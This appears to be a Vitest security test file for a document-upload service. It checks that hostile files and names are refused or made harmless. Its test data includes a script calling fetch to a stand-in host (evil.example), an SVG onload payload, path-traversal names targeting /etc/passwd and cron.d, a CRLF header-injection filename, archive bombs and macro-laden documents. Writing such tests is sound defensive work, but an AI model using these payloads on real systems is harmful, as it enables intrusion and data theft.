import { createHash } from 'node:crypto'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { strToU8, zipSync } from 'fflate'
import { attachDocument, readDocument, readOriginal } from '../../protocol/documents.ts'
import { fileProblems, type FileProblem, type UploadPurpose } from '../../protocol/uploads.ts'
import type { RenditionProblem } from '../../protocol/rendition.ts'
import { docxOf, manyPages, odtOf, odtWithMacro, pdfWithScript, pngOf } from '../../server/conversion/test-files.ts'
import {
  archive, docxAskingFor, docxOfLaughs, docxSaying, MACRO_TYPES, overlappingArchive, pdfBomb, pdfInCircles, pdfThatActs, pictureBomb,
} from '../../server/uploads/hostile-files.ts'
import { startAssembly, type Assembly } from '../support/assembly.ts'
import { until } from '../support/journal.ts'
import { pdfOf } from '../support/pdf.ts'
import { tryUpload } from '../support/uploads.ts'

/** Files of people who mean harm, through the routes by which files come: each is refused with its reason, or does nothing. */

const MB = 1024 ** 2
let assembly: Assembly
let purpose: Extract<UploadPurpose, { kind: 'document' }>
const logged: string[] = []

beforeAll(async () => {
  assembly = await startAssembly({ onLog: (line) => logged.push(line) })
  const { meetingId, items: [itemId] } = await assembly.newMeeting('published')
  purpose = { kind: 'document', meetingId, itemId }
})
afterAll(() => assembly.close())

const bytesOf = (...pieces: (Buffer | string)[]) => Buffer.concat(pieces.map((piece) => Buffer.from(piece as string, 'latin1')))

it('refuses what is no document, two in one, locked, damaged, or grows beyond measure, and keeps nothing of it', async () => {
  const [pdf, docx, png] = [await pdfOf(['Tờ trình']), await docxOf(['Tờ trình']), await pngOf('ảnh')]
  const compound = bytesOf(Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(70_000))
  const zip = (parts: Record<string, string>) => Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)]))))
  const damaged = Buffer.from(docx).fill(0xff, 200, 400)
  const hostile: [string, Buffer, FileProblem][] = [
    ['Trang.pdf', Buffer.from('<html><script>fetch("//evil.example")</script></html>'), 'type'],
    ['Hình.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'type'],
    ['Báo cáo.pdf', bytesOf('MZ\x90\0', Buffer.alloc(2000)), 'type'],
    ['Tờ trình.docx', zip({ 'a.txt': 'a' }), 'type'],
    ['Văn bản cũ.doc', compound, 'type'],
    ['PDF và DOCX.pdf', bytesOf(pdf, docx), 'polyglot'],
    ['Ảnh và DOCX.png', bytesOf(png, docx), 'polyglot'],
    ['Ảnh và PDF.png', bytesOf(png.subarray(0, 33), '%PDF-1.7', png.subarray(33)), 'polyglot'],
    ['Hai loại.docx', archive({ mimetype: 'application/vnd.oasis.opendocument.text' }), 'polyglot'],
    ['Có macro.docx', archive({ 'word/vbaProject.bin': 'x' }), 'macros'],
    ['Có macro.docm', archive({ '[Content_Types].xml': MACRO_TYPES }), 'macros'],
    ['Có ActiveX.docx', archive({ 'word/activeX/activeX1.xml': 'x' }), 'macros'],
    ['Có macro.odt', odtWithMacro('/tmp/none'), 'macros'],
    ['Có khoá.docx', bytesOf(compound, Buffer.from('EncryptedPackage', 'utf16le')), 'encrypted'],
    ['Có khoá.odt', zip({ 'mimetype': 'application/vnd.oasis.opendocument.text', 'META-INF/manifest.xml': '<manifest:encryption-data/>' }), 'encrypted'],
    ['Cụt.docx', docx.subarray(0, docx.length - 40), 'broken'],
    ['Hỏng.docx', damaged, 'broken'],
    ['Cụt.pdf', pdf.subarray(0, pdf.length / 2), 'broken'],
    ['Ra ngoài.docx', archive({ '../../etc/cron.d/x': 'x' }), 'broken'],
    ['Nở.docx', archive({ 'word/media/a.xml': new Uint8Array(34 * MB) }), 'bomb'],
    ['Chồng.docx', overlappingArchive(400), 'bomb'],
    ['Nhiều.docx', overlappingArchive(10_001), 'bomb'],
    ['Nén trong.docx', archive({ 'word/embeddings/inner.zip': zip({ a: 'a' }) }), 'nested'],
    ['Chương trình.docx', archive({ 'word/embeddings/a.exe': 'MZ' }), 'nested'],
  ]
  for (const [name, bytes, problem] of hostile) {
    const { error } = await tryUpload(assembly.clerk, purpose, bytes, name)
    expect([name, error?.code, error?.details]).toEqual([name, 'fileRefused', { problem }])
  }
  // All but a virus, which needs a scanner.
  expect(new Set(hostile.map(([,, problem]) => problem))).toEqual(new Set(fileProblems.filter((problem) => problem !== 'virus')))
  expect(await assembly.server.db('upload').whereNotNull('sha256')).toEqual([])
  for (const [name] of hostile) expect(logged.join('\n')).not.toContain(name)
}, 60_000)

/** Attaches a file; gives what became of it, and what its readers find in it. */
async function attached(bytes: Buffer, name: string) {
  const { server, clerk } = assembly
  const { body: sent, error } = await tryUpload(clerk, purpose, bytes, name)
  if (!sent) throw new Error(`${name}: ${JSON.stringify(error)}`)
  const { documentId } = (await clerk.client.call(attachDocument, { params: purpose, body: { uploadId: sent.uploadId, key: sent.uploadId } })).body
  const sha256 = createHash('sha256').update(bytes).digest('hex')
  const state = async () => (await server.domains.converting.conversion.statesOf(server.db, [sha256])).get(sha256)
  await until(async () => !['waiting', 'running'].includes((await state())?.status ?? 'waiting'))
  const settled = await state()
  const text = (await server.domains.converting.conversion.textsOf(server.db, sha256)).join('\n')
  return { params: { meetingId: purpose.meetingId, documentId }, sha256, status: settled?.status, problem: settled?.problem, pdf: settled?.pdfSha256, text }
}

it('makes what does something into what does nothing, or says why it is not read', async () => {
  const { clerk } = assembly
  const client = clerk.client
  const secret = `file://${import.meta.filename}`
  const cases: [string, Buffer, { problem: RenditionProblem } | { redrawn: boolean, text?: string }][] = [
    ['Mười nghìn trang.pdf', manyPages(10_000), { problem: 'tooManyPages' }],
    ['Không đọc được.pdf', bytesOf('%PDF-1.7\n', Buffer.alloc(3000, 7), 'startxref\n9\n%%EOF\n'), { problem: 'broken' }],
    ['Tự chạy.pdf', pdfWithScript(), { redrawn: true, text: 'Harmless words' }],
    ['Mở chương trình.pdf', pdfThatActs(), { redrawn: true }],
    ['Vòng tròn.pdf', pdfInCircles(), { redrawn: false }],
    ['Nở ra.pdf', pdfBomb(256 * MB), { redrawn: false }],
    ['Ảnh khổng lồ.png', pictureBomb(10_000), { redrawn: true }],
    ['Cười.docx', docxOfLaughs(), { problem: 'broken' }],
    ['Xin tệp khác.docx', docxAskingFor(secret), { problem: 'broken' }],
    // The same without its demand is read: it was the demand.
    ['Bình thường.docx', docxSaying('Before and after'), { redrawn: true, text: 'Before and after' }],
  ]
  const settled = await Promise.all(cases.map(async ([name, bytes, expected]) => ({ name, bytes, expected, found: await attached(bytes, name) })))
  for (const { name, bytes, expected, found } of settled) {
    const read = await client.call(readDocument, { params: found.params })
    if ('problem' in expected) {
      expect([name, found.status, found.problem]).toEqual([name, 'failed', expected.problem])
      expect(read.error).toMatchObject({ code: 'documentNotReady', details: { status: 'failed', problem: expected.problem } })
    } else {
      expect([name, found.status, found.pdf !== found.sha256]).toEqual([name, 'ready', expected.redrawn])
      expect(found.text).toContain(expected.text ?? '')
      expect((read.body as Buffer).toString('latin1')).not.toMatch(/JavaScript|Java#53cript|Launch|EmbeddedFile|SubmitForm/)
    }
    expect(found.text).not.toContain('vitest')
    // As it came, and never to be shown by a browser.
    const original = await client.call(readOriginal, { params: found.params })
    expect((original.body as Buffer).equals(bytes)).toBe(true)
    expect([original.headers.get('content-type'), original.headers.get('x-content-type-options')]).toEqual(['application/octet-stream', 'nosniff'])
    expect(original.headers.get('content-disposition')).toMatch(/^attachment;/)
  }
}, 90_000)

it('takes names as one line of their last part, and says them in headers that hold together', async () => {
  const names: [string, string][] = [
    ['../../../etc/passwd', 'passwd'],
    ['C:\\Windows\\System32\\Tờ trình.odt'.normalize('NFD'), 'Tờ trình.odt'],
    ['a\u0000b\r\nSet-Cookie: x=1.odt', 'a b Set-Cookie: x=1.odt'],
    ['Báo cáo\u202Efdp.exe', 'Báo cáo fdp.exe'],
    ['"; filename=evil.html', '"; filename=evil.html'],
    ['..', 'document'],
  ]
  for (const [at, [given, kept]] of names.entries()) {
    const { body, error } = await tryUpload(assembly.clerk, purpose, odtOf([`Tên ${at}`]), given)
    expect([given, error, body?.name]).toEqual([given, undefined, kept])
    const uploadId = body!.uploadId
    const { documentId } = (await assembly.clerk.client.call(attachDocument, { params: purpose, body: { uploadId, key: uploadId } })).body
    const { headers } = await assembly.clerk.client.call(readOriginal, { params: { meetingId: purpose.meetingId, documentId } })
    const said = /^attachment; filename="document"; filename\*=UTF-8''([\w%.~+-]+)$/.exec(headers.get('content-disposition') ?? '')?.[1]
    expect(decodeURIComponent(said ?? '')).toBe(kept)
    expect(headers.get('set-cookie') ?? '').not.toContain('x=1')
  }
})
